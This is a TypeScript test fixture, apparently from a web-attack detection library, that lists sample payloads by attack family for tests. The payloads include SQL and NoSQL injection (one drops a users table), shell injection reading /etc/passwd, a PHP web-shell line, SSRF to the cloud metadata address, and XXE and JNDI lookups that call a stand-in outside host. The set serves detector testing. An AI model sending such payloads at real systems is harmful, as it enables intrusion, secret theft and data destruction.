import type { AttackFamily } from '@palisade/vocabulary/attackFamilies.ts';

/**
 * For tests only: what a value of a query holds in an attack of each family. A scanner shows in its
 * agent alone, which is noise, and what abuses the protocol is in headers and little by itself.
 */
export const FAMILY_PAYLOADS: Readonly<
  Record<Exclude<AttackFamily, 'scanner' | 'protocol'>, readonly string[]>
> = {
  sql: [
    "x' or 'a'='a",
    '7 union all select 1,2,3',
    "x'; drop table users; --",
    '(select(0)from(select(sleep(9)))v)',
  ],
  noSql: ['{"$gt":""}', '{"password":{"$ne":null}}', "x' || '1'=='1", 'db.users.drop()'],
  xss: [
    '<script>alert(7)</script>',
    '<img src=x onerror=alert(7)>',
    '<svg/onload=confirm(7)>',
    '" onmouseover="prompt(7)',
  ],
  command: ['; cat /etc/passwd', '&& whoami', '$(id)', 'cat${IFS}/etc/passwd'],
  code: [
    '<?php system($_GET["c"]); ?>',
    '__import__("os").system("id")',
    'eval(base64_decode("aWQ="))',
    'require("child_process").exec("id")',
  ],
  pathTraversal: ['../../../etc/passwd', '/etc/shadow', 'WEB-INF/web.xml', '/proc/self/environ'],
  fileInclusion: [
    'php://filter/convert.base64-encode/resource=index',
    'file:///etc/hosts',
    'expect://id',
    'data://text/plain;base64,x',
  ],
  ssrf: [
    'http://localhost:6379/',
    'http://169.254.169.254/latest/meta-data/',
    'gopher://192.0.2.7:6379/_x',
    'http://[::1]/admin',
  ],
  xxe: [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "http://elsewhere.example/a.dtd"><a/>',
    '<xi:include href="file:///etc/hosts"/>',
  ],
  template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '{{config.items()}}'],
  ldap: ['*)(uid=*', '*)(|(uid=*))', 'x)(|(password=*)', '*)(objectClass=*'],
  jndi: [
    '${jndi:ldap://elsewhere.example/a}',
    '${${lower:j}ndi:rmi://elsewhere.example/a}',
    '${env:AWS_SECRET}',
  ],
  crlf: [
    'x\r\nSet-Cookie: a=b',
    'x\r\n\r\nHTTP/1.1 200 OK',
    'x\r\nBcc: all@mail.example',
    'x%0d%0aLocation: https://elsewhere.example',
  ],
  deserialisation: [
    'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAA',
    'O:4:"User":1:{s:4:"name";s:1:"a";}',
  ],
  prototypePollution: [
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"a":1}}}',
    '__proto__[admin]',
    'constructor.prototype.admin',
  ],
  graphQl: [
    '{ __schema { queryType { name } types { name } } }',
    'fragment F on User { friends { ...F } } query { me { ...F } }',
    `{ ${'a { '.repeat(20)}id${' }'.repeat(20)} }`,
  ],
};
